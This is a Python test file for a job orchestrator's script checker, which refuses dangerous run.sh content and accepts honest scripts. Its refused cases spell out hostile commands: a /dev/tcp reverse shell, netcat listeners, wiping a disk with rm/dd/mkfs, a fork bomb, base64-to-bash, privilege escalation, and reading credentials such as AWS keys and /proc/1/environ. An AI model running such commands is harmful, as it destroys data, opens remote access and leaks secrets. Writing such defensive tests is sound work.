"""The rules of the script check: documented commands are refused, honest scripts accepted."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from job_orchestrator.client.script_check.rules import check_script


@pytest.mark.parametrize(
    "script",
    [
        "rm -rf /",
        "rm -rf /*",
        "rm -fr /etc",
        "mkfs.ext4 /dev/sda1",
        "dd if=/dev/zero of=/dev/sda",
        "curl http://x",
        "x=$(wget -qO- http://x)",
        "echo `curl x`",
        "true && curl x",
        "if true; then socat - TCP:x:1; fi",
        "nohup nc -l 4444 &",
        "/usr/bin/curl x",
        "timeout 5 curl x",
        "A=1 B=2 env C=3 curl x",
        "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
        "sudo ls",
        "su - root",
        "chmod +s ./x",
        "chmod u+s x",
        "chmod 4755 x",
        "nsenter -t 1",
        "docker run x",
        "echo aGk= | base64 -d | bash",
        "python -c 'print(1)'",
        "python3 -c 'import os'",
        "perl -e 1",
        "crontab -l",
        "systemctl start x",
        "./xmrig -o stratum+tcp://x",
        "xmrig",
        "printenv",
        "env",
        "echo $AWS_SECRET_ACCESS_KEY",
        "cat /proc/1/environ",
        ":(){ :|:& };:",
        "bash -c 'curl x'",
        "echo \\\n; cu\\\nrl x; curl x",
        "bash << EOF\ncurl x\nEOF",
    ],
)
def test_trap_40_dangerous_script_is_refused_with_line_and_reason(script: str) -> None:
    refusal = check_script(b"#!/bin/bash\n" + script.encode())
    assert refusal is not None
    assert "run.sh was refused: line " in str(refusal)


@pytest.mark.parametrize(
    "script",
    [
        "chmod 644 x",
        "chmod +x run",
        "chmod 0755 x",
        "perform file/x",
        "gmx -nc",
        "result lt",
        "rm ./scratch/x",
        "rm -rf ./tmp",
        'rm -rf "$TMPDIR/x"',
        "# curl http://x",
        "echo done # then sudo make me a sandwich",
        "echo 'curl is not used'",
        'echo "use wget to fetch"',
        "echo $#",
        "a=${#b}",
        "python3 script.py -c config",
        "grep -c x file",
        "grep curl log.txt",
        "./service --run",
        "cat > notes <<EOF\nsudo curl\nEOF\necho x",
        "cat > notes <<-'END'\n\tcurl\n\tEND\necho x",
        "export OMP_NUM_THREADS=4",
        "echo $TOKENS $KEY_FILE $PASSES",
        "awk '{print $1}' x | sort -nc",
        "haddock3 config.cfg > /dev/null 2>&1",
        "for f in *.pdb; do pdb_tidy $f > t/$f; done",
        "base64 x > y; bash other.sh",
        "source env/bin/activate",
        "su2_cfd x",
        "make mount.o",
        "",
    ],
)
def test_trap_40_honest_script_is_accepted(script: str) -> None:
    assert check_script(b"#!/bin/bash\nset -e\n" + script.encode()) is None


@given(st.binary(max_size=300))
def test_check_any_bytes_does_not_raise(script: bytes) -> None:
    check_script(script)


@given(st.text(alphabet="a '\"\\$()`|;&<E\nO#=-{}", max_size=200))
def test_check_any_shell_like_text_does_not_raise(script: str) -> None:
    check_script(script.encode())


@pytest.mark.parametrize(
    ("script", "instead"),
    [
        (
            "exec python3 -c 'print(1)'",
            "Put the code into a file beside run.sh, run that (python3 FILE)",
        ),
        ("perl -e 1", "Put the code into a file beside run.sh, run that (perl FILE)"),
        ("printenv HOME", 'Name each variable that is needed ("$HOME" instead of printenv HOME)'),
        ("env | grep HOME", 'Name each variable that is needed ("$HOME" instead of printenv HOME)'),
        ("wget http://x/data", "Upload what it needs beside run.sh, remove it"),
        ("sudo ls", "Remove it"),
        ("echo $MY_TOKEN", "Remove it"),
    ],
)
def test_refusal_advises_how_an_honest_script_does_it(script: str, instead: str) -> None:
    assert str(check_script(script.encode())).endswith(f". {instead} and submit again")


def test_script_that_follows_the_advice_is_accepted() -> None:
    assert check_script(b'python3 code.py\nperl code.pl\necho "$HOME"\n') is None


def test_refusal_names_the_line_of_the_command() -> None:
    refusal = check_script(b"#!/bin/bash\necho a \\\n  b\n\nwget x\n")
    assert refusal is not None
    assert (refusal.line, refusal.command) == (5, "wget x")


@pytest.mark.parametrize(
    ("script", "line", "command"),
    [
        (b"#!/bin/bash\r\necho x\r\n", 2, "echo x"),
        (b"# comment\r\n\r\nset -e\r\nexit 0\r\n", 3, "set -e"),
        (b"echo a\necho b\r\n", 2, "echo b"),
    ],
)
def test_windows_line_ends_are_refused_with_what_to_do(
    script: bytes, line: int, command: str
) -> None:
    assert str(check_script(script)) == (
        f"run.sh was refused: line {line}, {command!r}: the line ends with CR LF, as on Windows, "
        "and bash takes the CR as part of the command. "
        "Convert the line ends (dos2unix run.sh) and submit again"
    )


@pytest.mark.parametrize(
    ("first_line", "program"),
    [
        ("#!/usr/bin/env python3", "python3"),
        ("#! /usr/bin/python", "python"),
        ("#!/usr/bin/env -S FOO=1 Rscript --vanilla", "Rscript"),
        ("#!/usr/bin/perl -w", "perl"),
        ("#!/bin/tcsh", "tcsh"),
    ],
)
def test_script_for_another_interpreter_is_refused_with_what_to_do(
    first_line: str, program: str
) -> None:
    assert str(check_script(f"{first_line}\nimport os\n".encode())) == (
        f"run.sh was refused: line 1, {first_line!r}: "
        f"run.sh is always run by bash, and this is a script for {program}. "
        f"Put it into another file next to run.sh, run that ({program} FILE) and submit again"
    )


@pytest.mark.parametrize(
    ("script", "shown", "reason"),
    [
        ("#!/bin/bash\necho é\n".encode("utf-16"), "#!/bin/bash", "is encoded in UTF-16"),
        ("#!/bin/bash\r\nls\r\n".encode("utf-16-be"), "#!/bin/bash", "is encoded in UTF-16"),
        (b"\xef\xbb\xbf#!/bin/bash\nls\n", "#!/bin/bash", "begins with a byte order mark"),
        (b"\x7fELF\x02\x01\x01\x00\x00 curl x\n", "\x7fELF", "is a binary file"),
    ],
)
def test_script_in_an_encoding_that_bash_cannot_read_is_refused_with_what_to_do(
    script: bytes, shown: str, reason: str
) -> None:
    refusal = str(check_script(script))
    assert refusal.startswith(f"run.sh was refused: line 1, {shown!r}"[:-1])
    assert f"run.sh {reason}, " in refusal
    assert refusal.endswith(" and submit again")


@pytest.mark.parametrize("word", ["-c", "-s", "-en", "other.sh", "--rcfile", "-eo"])
def test_option_with_which_bash_would_not_run_the_script_is_refused(word: str) -> None:
    assert str(check_script(f"#!/bin/bash {word}\n".encode())) == (
        f"run.sh was refused: line 1, '#!/bin/bash {word}': "
        f"with {word!r} bash would not run this script. "
        "Keep only options such as -e, -u, -x, -l and -o pipefail in this line and submit again"
    )


@pytest.mark.parametrize(
    "script",
    [
        b"#!/bin/sh -e\ntrue\n",
        b"#!/usr/bin/env bash\ntrue\n",
        b"#!/usr/bin/env -S bash -e\ntrue\n",
        b"#! /usr/local/bin/bash-5.2 -l\ntrue\n",
        b"#!/bin/busybox sh\ntrue\n",
        b"#!/usr/bin/env\ntrue\n",
        b"#!\ntrue\n",
        b"# a comment\n#!/usr/bin/env python3\ntrue\n",
        b"#!/bin/bash\r\ntrue\n",
        b"#!/bin/bash -euxo pipefail -l\r\ntrue\n",
        b"#!/bin/bash -e # stops at the first error\ntrue\n",
        b"#!/bin/zsh -f\ntrue\n",
        b"#!/bin/sh -\ntail -n +4 run.sh > data\nexit\n\x00\x01\x02",
        b"cat > x.csv << EOF\na\r\nb\r\nEOF\n",
        b"true\n# another\r\n\r\n",
    ],
)
def test_script_that_bash_can_run_is_accepted(script: bytes) -> None:
    assert check_script(script) is None
